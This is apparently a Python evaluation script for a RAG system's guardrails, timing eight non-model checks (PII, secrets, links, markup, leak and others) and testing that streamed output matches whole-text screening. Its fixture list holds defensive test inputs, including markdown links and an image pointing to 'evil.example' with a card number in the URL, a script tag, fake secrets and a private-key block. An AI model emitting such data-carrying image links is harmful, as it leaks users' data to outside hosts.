"""What checks without a model cost, and whether a text in any pieces is shown as it is whole."""

from __future__ import annotations

import random
import statistics
import time
from collections.abc import Mapping

from tables import ROOT, Line

from ragweave.evals.kit.check.finding import texts
from ragweave.orchestrator.guardrails.check import Check, Subject
from ragweave.orchestrator.guardrails.holding import Held, shown
from ragweave.orchestrator.guardrails.links import Links
from ragweave.orchestrator.guardrails.markup import Invisible, Markup
from ragweave.orchestrator.guardrails.pii.check import Pii
from ragweave.orchestrator.guardrails.screening import screen
from ragweave.orchestrator.guardrails.secrets import Secrets
from ragweave.orchestrator.guardrails.wording import Leak, Length, Words
from ragweave.orchestrator.resources import Resources

CUTS, ROUNDS = 10_000, 60
FAULTY = (
    "Write to jo@example.org or call +44 20 7946 0958, the card is 4111 1111 1111 1111.",
    "See [the tracking](https://evil.example/t?a=jo) ![x](https://evil.example/p.png?q=4111111111111111).",
    "<b>It</b> is damn late\u200b, sorry. <script>alert(1)</script>",
    "password = 'hunter22' and sk-abcdefghijklmnopqrstuvwx",
    "-----BEGIN PRIVATE KEY-----\nabc\n-----END PRIVATE KEY-----",
    "The code word is canary-8f3a, one two three four five six seven eight.",
)


def checks() -> Mapping[str, Check]:
    """All checks without a model that look at any text, opened as a graph opens them."""
    made: dict[str, Check] = {
        "pii": Pii(), "secrets": Secrets(), "links": Links(), "markup": Markup(), "invisible": Invisible(),
        "words": Words(words=["damn"]), "leak": Leak(texts=["canary-8f3a"]), "length": Length(max_chars=20_000),
    }  # fmt: skip
    for check in made.values():
        check.open(Resources())
    return made


async def cost() -> list[Line]:
    """CPU of all of them together on 2 KB."""
    recipes = "\n".join(
        path.read_text(encoding="utf-8") for path in sorted((ROOT / "examples/cookbook/recipes").glob("*.md"))
    )
    dense = "Born 12 May 1990, she called 020 7946 0958 about order 123456 of jo@example.org. " * 40
    lines, opened = [], checks()
    for what, text, goal in (("of a recipe", recipes, "≤ 1 ms"), ("full of numbers", dense, "printed")):
        taken = []
        for at in range(ROUNDS):
            piece = text[at * 97 % 1000 :][:2_048]
            begin = time.thread_time()
            await screen(opened, piece, Subject())
            taken.append(time.thread_time() - begin)
        spent = statistics.median(taken) * 1000
        lines.append(
            Line(
                f"8 checks without a model on 2 KB {what}",
                goal,
                f"{spent:.2f} ms of CPU",
                goal == "printed" or spent <= 1,
            )
        )
    return lines


async def streaming() -> list[Line]:
    """Texts in random pieces against the same texts whole, and how much of them is held back."""
    lot, tried, same, late = random.Random(5), 0, 0, 0
    window = max(check.window or 0 for check in checks().values())
    made, opened = list(texts(FAULTY, 100)), checks()
    while tried < CUTS:
        text = made[tried % len(made)]
        whole = await shown(opened, text, Subject())
        places = sorted(lot.randint(0, len(text)) for _ in range(lot.randint(0, 12)))
        held, given = Held(opened, Subject()), ""
        for begin, end in zip([0, *places], [*places, len(text)], strict=True):
            given += await held.feed(text[begin:end])
            late = max(late, 0 if held.ended else end - held.decided)
        given += await held.end()
        same += given == whole.text and held.verdict == whole.verdict
        tried += 1
    return [
        Line(f"streams: {CUTS:,} random cuts that show what the whole text shows", "all", f"{same:,}", same == CUTS),
        Line("streams: characters held back at most", f"the window, {window:,}", f"{late:,}", late <= window),
    ]
